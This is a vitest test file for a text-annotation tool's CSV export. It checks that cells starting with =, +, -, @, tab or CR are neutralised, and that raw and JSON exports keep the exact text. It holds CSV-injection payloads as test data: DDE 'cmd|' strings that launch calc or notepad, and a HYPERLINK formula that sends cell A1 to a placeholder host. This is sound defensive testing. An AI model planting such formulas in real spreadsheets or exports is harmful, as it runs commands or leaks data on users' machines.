/**
 * Scraped text and teammates' notes reach the CSV export, which the docs offer for Excel: a cell a
 * spreadsheet would evaluate must arrive as text (OWASP, CSV injection), and every other format,
 * or CSV with --csv-raw, keeps the text exactly.
 */
import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { fromSpreadsheetSafe, spreadsheetSafe } from '../../../../src-main/core/csv';
import { exportOptionsSchema, type ExportOptions } from '../../../../src-main/shared/contract/export';
import { exportToFile } from '../../../../src-main/node/export/write-export';
import { exportEnv, paragraphsOf, parseCsv, T1, writeLayer } from './fixture';
import { tempDir } from '../temp';

const HOSTILE = [
  '=HYPERLINK("http://x.invalid/?"&A1,"click")',
  "+cmd|' /C calc'!A0",
  '-2+3+cmd|\' /C notepad\'!A1',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  "'=already quoted",
];
const ARTICLE = `${HOSTILE.join('\n')}\nیک خط عادی فارسی\n`;

async function hostileWorkspace(): Promise<string> {
  const root = await tempDir('csv-injection');
  await writeFile(join(root, '=cmd.txt'), ARTICLE);
  const paragraphs = paragraphsOf(ARTICLE);
  await writeLayer(root, {
    article: '=cmd.txt',
    annotator: '-sara',
    paragraphs: Object.fromEntries(paragraphs.map((p) => [p.id, { index: p.index, labels: ['ad'], updated_at: T1, note: '=1+2' }])),
  });
  return root;
}

async function exportAs(root: string, o: Partial<ExportOptions>): Promise<string> {
  const { env } = await exportEnv(root);
  const out = join(root, `..`, `out-${o.format}-${o.csvRaw ? 'raw' : 'safe'}`);
  await exportToFile(env, exportOptionsSchema.parse(o), out);
  return readFile(out, 'utf8');
}

describe('CSV cells a spreadsheet would evaluate', () => {
  it('never starts a CSV cell with = + - @ tab or CR by default, in text, note, article and annotator columns', async () => {
    const root = await hostileWorkspace();
    const [header, ...rows] = parseCsv((await exportAs(root, { format: 'csv' })).slice(1));
    expect(rows).toHaveLength(HOSTILE.length + 1);
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    const text = header!.indexOf('text');
    expect(rows.map((r) => fromSpreadsheetSafe(r[text]!))).toEqual([...HOSTILE.map((h) => h.trim()), 'یک خط عادی فارسی']);
    expect(rows[0]![header!.indexOf('note')]).toBe("'=1+2");
    expect(rows[0]![header!.indexOf('annotator')]).toBe("'-sara");
    expect(rows[0]![header!.indexOf('article')]).toBe("'=cmd.txt");
  });

  it('writes the exact text with --csv-raw, and JSON and JSONL always keep it', async () => {
    const root = await hostileWorkspace();
    const [header, ...raw] = parseCsv((await exportAs(root, { format: 'csv', csvRaw: true })).slice(1));
    expect(raw.map((r) => r[header!.indexOf('text')])).toEqual([...HOSTILE.map((h) => h.trim()), 'یک خط عادی فارسی']);
    expect(raw[0]![header!.indexOf('note')]).toBe('=1+2');
    const jsonl = (await exportAs(root, { format: 'jsonl' })).trimEnd().split('\n').map((l) => JSON.parse(l) as { text: string; note: string });
    expect(jsonl.map((r) => r.text)).toEqual([...HOSTILE.map((h) => h.trim()), 'یک خط عادی فارسی']);
    expect(jsonl[0]!.note).toBe('=1+2');
    const doc = JSON.parse(await exportAs(root, { format: 'json' })) as { records: { text: string }[] };
    expect(doc.records[0]!.text).toBe(HOSTILE[0]);
  });

  it('undoes exactly what it did, for any text', () => {
    for (const text of ['', "'", "''=", '=', '-', '+1', '@', '\t', '\r\n', 'plain', "'plain", 'گفت: «=»', ...HOSTILE]) {
      expect(fromSpreadsheetSafe(spreadsheetSafe(text))).toBe(text);
      expect(spreadsheetSafe(text)).not.toMatch(/^[=+\-@\t\r]/);
    }
  });
});

describe('pilcrow export --csv-raw', () => {
  it('is refused with a format other than CSV, saying what it goes with', async () => {
    const { runCli } = await import('../../../../src-main/cli/pilcrow');
    const err: string[] = [];
    const code = await runCli(['export', await hostileWorkspace(), '--format', 'jsonl', '--csv-raw'], { out: () => undefined, err: (s) => err.push(s) });
    expect(code).toBe(1);
    expect(err.join('\n')).toBe('pilcrow: --csv-raw goes with --format csv');
  });
});
